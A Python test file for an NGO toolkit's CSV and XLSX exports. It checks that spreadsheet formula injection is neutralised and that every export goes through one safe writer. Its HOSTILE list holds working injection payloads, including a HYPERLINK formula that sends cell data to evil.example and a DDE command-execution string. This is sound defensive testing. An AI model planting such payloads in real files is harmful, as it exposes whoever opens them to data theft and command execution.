"""Every CSV and XLSX export is formula-safe: one writer, found by scanning, fed hostile values.

Two guards that a new export cannot slip past:

* no module, plugin or example writes CSV or XLSX itself (a scan of their source for
  ``csv.writer``, ``csv.DictWriter``, openpyxl's ``Workbook`` and the like): every file goes
  through ``ngo_kit.exports``;
* every public ``export*`` method of every enabled module's service (built-in and installed
  plugins alike, found, not listed) has a round trip below that puts hostile values into the
  organisation's data, exports them as CSV and XLSX, and reads the file back the way a
  spreadsheet would.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import importlib.metadata
import io
import uuid
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from ngo_kit import SYSTEM, Kit
from ngo_kit.exports import csv_cell, is_formula_like, write_csv, write_xlsx
from ngo_kit.testing import KitFactory

ROOT = Path(__file__).resolve().parents[2]

#: Values that a spreadsheet would run (or has run, in published attacks) as formulas.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
)

#: Exports that return JSON-ready data, not a spreadsheet file.
NOT_SPREADSHEETS = {"registration.export_personal_data"}


# --- the writers ------------------------------------------------------------------------------


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _xlsx_sheet(data: bytes) -> Any:
    assert b"<f>" not in _sheet_xml(data), "a cell was written as a formula"
    return load_workbook(io.BytesIO(data)).worksheets[0]


def _sheet_xml(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(
            archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")
        )


def test_csv_writer_neutralises_every_formula_start_and_keeps_numbers() -> None:
    out = io.StringIO()
    written = write_csv(out, ["value", "n"], [[h, -3] for h in HOSTILE] + [["plain", 1]])
    assert written == len(HOSTILE) + 1
    rows = _csv_rows(out.getvalue())
    assert rows[0] == ["value", "n"]
    assert [r[0] for r in rows[1:-1]] == ["'" + h for h in HOSTILE]
    assert all(r[1] == "-3" for r in rows[1:-1])  # a negative number is a number, not a formula
    assert rows[-1] == ["plain", "1"]


def test_csv_cells_keep_numbers_dates_and_ids_readable() -> None:
    moment = dt.datetime(2026, 5, 1, 10, 30, tzinfo=dt.timezone(dt.timedelta(hours=8)))
    some_id = uuid.uuid4()
    assert csv_cell(Decimal("-12.500")) == "-12.5"
    assert csv_cell(Decimal("1E+2")) == "100"
    assert csv_cell(Decimal("0.000")) == "0"
    assert csv_cell(7) == 7 and csv_cell(None) == ""
    assert csv_cell(moment) == "2026-05-01 02:30:00"
    assert csv_cell(dt.date(2026, 5, 1)) == "2026-05-01"
    assert csv_cell(some_id) == str(some_id)
    assert csv_cell("safe text = fine") == "safe text = fine"


def test_xlsx_writer_never_writes_a_formula_and_keeps_numbers_numeric(tmp_path: Path) -> None:
    path = tmp_path / "hostile.xlsx"
    write_xlsx(path, ["value", "n"], [[h, Decimal("-2.50")] for h in HOSTILE] + [["ok\x01", 4]])
    sheet = _xlsx_sheet(path.read_bytes())
    rows = list(sheet.iter_rows(min_row=2))
    for (text, number), hostile in zip(rows, HOSTILE, strict=False):
        # XML reads a carriage return back as a line feed; the cell is text either way
        assert text.data_type == "s" and text.value == hostile.replace("\r", "\n")
        assert text.quotePrefix, hostile  # stays text when someone edits the cell
        assert number.data_type == "n" and number.value == -2.5
    assert rows[-1][0].value == "ok" and not rows[-1][0].quotePrefix  # XML cannot hold \x01
    assert rows[-1][1].value == 4


def test_formula_like_text_is_recognised_with_full_width_signs_and_leading_spaces() -> None:
    assert all(is_formula_like(h) for h in HOSTILE)
    assert not any(is_formula_like(t) for t in ("", "Hope Foundation", "1+1", "a=b", "希望"))


# --- nobody writes spreadsheets by themselves ----------------------------------------------------

#: ``module.attribute`` calls and ``from module import name`` imports that write CSV or XLSX.
WRITERS = {
    ("csv", "writer"),
    ("csv", "DictWriter"),
    ("openpyxl", "Workbook"),
    ("openpyxl.workbook", "Workbook"),
    ("openpyxl.workbook.workbook", "Workbook"),
}
WRITER_PACKAGES = ("xlsxwriter", "xlwt", "pyexcel", "tablib")
WRITER_METHODS = {"to_csv", "to_excel"}


def _sources() -> list[Path]:
    places = [ROOT / "ngo_kit", ROOT / "examples", *sorted((ROOT / "plugins").glob("*/src"))]
    return sorted(p for place in places for p in place.rglob("*.py"))


def _spreadsheet_writers(path: Path, root: Path = ROOT) -> list[str]:
    """``file:line what`` for each place in ``path`` that writes CSV or XLSX, in line order."""
    tree = ast.parse(path.read_text(encoding="utf-8"), str(path))
    found: list[tuple[int, str]] = []
    for node in ast.walk(tree):
        line = getattr(node, "lineno", 0)
        where = f"{path.relative_to(root)}:{line}"
        if isinstance(node, ast.ImportFrom) and node.module:
            for alias in node.names:
                if (node.module, alias.name) in WRITERS:
                    found.append((line, f"{where} imports {node.module}.{alias.name}"))
            if node.module.split(".")[0] in WRITER_PACKAGES:
                found.append((line, f"{where} imports {node.module}"))
        elif isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.split(".")[0] in WRITER_PACKAGES:
                    found.append((line, f"{where} imports {alias.name}"))
        elif isinstance(node, ast.Attribute):
            if isinstance(node.value, ast.Name) and (node.value.id, node.attr) in WRITERS:
                found.append((line, f"{where} uses {node.value.id}.{node.attr}"))
            elif node.attr in WRITER_METHODS:
                found.append((line, f"{where} calls .{node.attr}()"))
    return [what for _, what in sorted(found)]


def test_no_module_plugin_or_example_writes_csv_or_xlsx_itself() -> None:
    sources = _sources()
    assert any(p.name == "files.py" for p in sources)  # the scan sees the modules' file code
    offenders = [
        found
        for path in sources
        if path != ROOT / "ngo_kit" / "exports.py"
        for found in _spreadsheet_writers(path)
    ]
    assert offenders == [], "write spreadsheets through ngo_kit.exports:\n" + "\n".join(offenders)


def test_the_scan_finds_a_writer_written_by_hand(tmp_path: Path) -> None:
    sneaky = tmp_path / "sneaky.py"
    sneaky.write_text(
        "import csv\nfrom openpyxl import Workbook\nimport xlsxwriter\n"
        "def dump(out, frame):\n    csv.writer(out).writerow(['=1'])\n    frame.to_csv(out)\n"
    )
    found = [f.split(" ", 1)[1] for f in _spreadsheet_writers(sneaky, tmp_path)]
    assert found == [
        "imports openpyxl.Workbook",
        "imports xlsxwriter",
        "uses csv.writer",
        "calls .to_csv()",
    ]


# --- every export, fed hostile values -------------------------------------------------------------


def _installed_plugins() -> list[object]:
    """The plugins of the other installed distributions (the first-party ones in ``plugins/``)."""
    return [
        ep.load()
        for ep in importlib.metadata.entry_points(group="ngo_kit")
        if ep.dist is not None and ep.dist.name.replace("_", "-").lower() != "ngo-kit"
    ]


@pytest.fixture
def full_kit(kit_factory: KitFactory) -> Kit:
    """Every built-in module and every installed plugin."""
    return kit_factory(plugins=_installed_plugins())


def _exports(kit: Kit) -> set[str]:
    found = set()
    for name, module in kit.modules.items():
        service = module.service
        if service is None:
            continue
        for attr in dir(service):
            if attr.startswith("export") and callable(getattr(service, attr)):
                found.add(f"{name}.{attr}")
    return found - NOT_SPREADSHEETS


def _cells_of(data: bytes, fmt: str) -> list[list[Any]]:
    if fmt == "csv":
        return _csv_rows(data.decode("utf-8-sig"))
    return [[c.value for c in row] for row in _xlsx_sheet(data).iter_rows()]


def _is_number(text: str) -> bool:
    """A plain number (``-5``, ``-1.5``): a spreadsheet reads it as that number, nothing more."""
    try:
        return Decimal(text).is_finite()
    except ArithmeticError:
        return False


def _assert_safe(data: bytes, fmt: str, planted: list[str]) -> None:
    """``planted`` values are in the file, as text a spreadsheet will not run."""
    cells = [c for row in _cells_of(data, fmt) for c in row if isinstance(c, str)]
    if fmt == "csv":
        assert not [c for c in cells if is_formula_like(c) and not _is_number(c)], cells
        expected = {"'" + p for p in planted}
    else:
        sheet = _xlsx_sheet(data)
        for row in sheet.iter_rows():
            for c in row:
                if isinstance(c.value, str) and is_formula_like(c.value):
                    assert c.data_type == "s" and c.quotePrefix, c.value
        expected = set(planted)
    assert expected <= set(cells), (expected - set(cells), fmt)


def _inventory_org(kit: Kit) -> Any:
    org = kit.create_organisation("hostile-goods", "Hostile Goods")
    with kit.begin(org=org, actor=SYSTEM) as tx:
        inv = tx.inventory
        inv.create_category(code="food", name="Food")
        inv.create_item(code="rice", name="Rice", category="food", unit="kg", tracked_by_lot=True)
        inv.create_location(code="wh", name="Warehouse")
    return org


def _inventory_history(kit: Kit, tmp_path: Path) -> dict[str, bytes | list[str]]:
    org = _inventory_org(kit)
    # Inputs are stripped of surrounding spaces, so the values planted start with their sign.
    donor, donation, recipient, approver, reason = (
        HOSTILE[0],
        HOSTILE[1],
        HOSTILE[2],
        HOSTILE[3],
        HOSTILE[7],
    )
    with kit.begin(org=org, actor=SYSTEM) as tx:
        inv = tx.inventory
        inv.receive(item="rice", quantity=10, to="wh", lot="L1", donor=donor, donation=donation)
        inv.issue(
            item="rice", quantity=2, from_="wh", lot="L1", recipient=recipient,
            approved_by=approver,
        )  # fmt: skip
        inv.scrap(item="rice", quantity=1, from_="wh", lot="L1", reason=reason)
        files = {fmt: inv.export_history(fmt) for fmt in ("csv", "xlsx")}
    return {**files, "planted": [donor, donation, recipient, approver, reason]}


def _inventory_stock(kit: Kit, tmp_path: Path) -> dict[str, bytes | list[str]]:
    org = _inventory_org(kit)
    lot = HOSTILE[3]
    with kit.begin(org=org, actor=SYSTEM) as tx:
        tx.inventory.receive(item="rice", quantity=Decimal("2.5"), to="wh", lot=lot)
        files = {fmt: tx.inventory.export_stock(fmt) for fmt in ("csv", "xlsx")}
    return {**files, "planted": [lot]}


def _points_ledger(kit: Kit, tmp_path: Path) -> dict[str, bytes | list[str]]:
    org = kit.create_organisation("hostile-points", "Hostile Points")
    with kit.begin(org=org, actor=SYSTEM) as tx:
        member = tx.registration.register(
            email="hostile@example.org", password="harbour-lantern-47", display_name="Hostile"
        ).id  # with registration enabled, points go to members only
        tx.points.award(member, 5, reason=HOSTILE[0], key="a")
        tx.points.award(member, 5, reason=HOSTILE[2], key="b")
        text = tx.points.export_csv()
    rows = _csv_rows(text)
    assert {r[6] for r in rows[1:]} == {"5", "-5"}  # amounts stay plain numbers, signs and all
    return {"csv": text.encode(), "planted": [HOSTILE[0], HOSTILE[2]]}


def _volunteer_hours(kit: Kit, tmp_path: Path) -> dict[str, bytes | list[str]]:
    # The hours report groups by ids and months only: no free text reaches it. The writer behind
    # it (which also writes the refused rows of ``ngo-kit volunteer import --errors``) is fed
    # hostile rows directly, and the export itself must stay numbers-as-numbers.
    from ngo_kit.modules.volunteer import files

    planted = list(HOSTILE[:3])
    out: dict[str, bytes | list[str]] = {"planted": planted}
    for fmt in ("csv", "xlsx"):
        path = tmp_path / f"hours.{fmt}"
        files.write_table(path, [{"reason": p, "hours": Decimal("-1.5")} for p in planted])
        out[fmt] = path.read_bytes()
    org = kit.create_organisation("hostile-hours", "Hostile Hours")
    with kit.begin(org=org, actor=SYSTEM) as tx:
        person = tx.registration.register(email="li@example.org", display_name="Li").id
        tx.volunteer.save_profile(user_id=person)
        tx.volunteer.record_hours(person, "2.5", served_on=dt.date(2026, 5, 1))
        written = tx.volunteer.export_hours(str(tmp_path / "real.xlsx"), by="month")
    assert written == 1
    sheet = _xlsx_sheet((tmp_path / "real.xlsx").read_bytes())
    assert list(sheet.iter_rows(values_only=True)) == [("month", "hours"), ("2026-05", 2.5)]
    return out


#: How to plant hostile values in each export and get its files back.
ROUND_TRIPS: dict[str, Callable[[Kit, Path], dict[str, bytes | list[str]]]] = {
    "inventory.export_history": _inventory_history,
    "inventory.export_stock": _inventory_stock,
    "points.export_csv": _points_ledger,
    "volunteer.export_hours": _volunteer_hours,
}


def test_every_export_of_every_module_and_plugin_has_a_hostile_round_trip(
    full_kit: Kit,
) -> None:
    found = _exports(full_kit)
    assert "inventory.export_history" in found  # the discovery sees the modules' services
    assert found == set(ROUND_TRIPS), "give each new export a round trip in ROUND_TRIPS"


@pytest.mark.parametrize("export", sorted(ROUND_TRIPS))
def test_an_export_writes_hostile_values_as_text_a_spreadsheet_will_not_run(
    full_kit: Kit, export: str, tmp_path: Path
) -> None:
    made = ROUND_TRIPS[export](full_kit, tmp_path)
    planted = made.pop("planted")
    assert isinstance(planted, list) and made
    for fmt, data in made.items():
        assert isinstance(data, bytes)
        _assert_safe(data, fmt, planted)
